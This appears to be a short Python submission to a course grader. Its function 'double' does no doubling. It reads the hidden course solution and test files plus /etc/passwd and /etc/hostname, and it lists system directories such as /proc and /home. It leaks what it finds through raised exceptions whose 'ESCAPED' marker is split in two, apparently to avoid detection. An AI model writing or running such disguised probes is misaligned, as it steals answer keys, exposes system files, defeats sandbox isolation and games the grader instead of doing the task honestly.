import os


def double(x):
    for place in ("/tmp/attack-target/file.txt", "/tmp/attack-target/course/solutions/toy/toy.py", "/tmp/attack-target/course/solutions/toy/test_toy.py",
                  "/tmp/attack-target/course/solutions/course.toml", "/etc/passwd", "/etc/hostname"):
        try:
            text = open(place).read()
        except OSError:
            continue
        raise RuntimeError("ESC" "APED: " + text[-200:])
    for folder in ("/", "/tmp", "/tmp/attack-target", "/home", "/proc", "/sys", "/dev", "."):
        try:
            raise RuntimeError(f"ESC" f"APED: {os.listdir(folder)}")
        except OSError:
            continue
    raise OSError("nothing there")


def norm(x):
    return float((x * x).sum() ** 0.5)
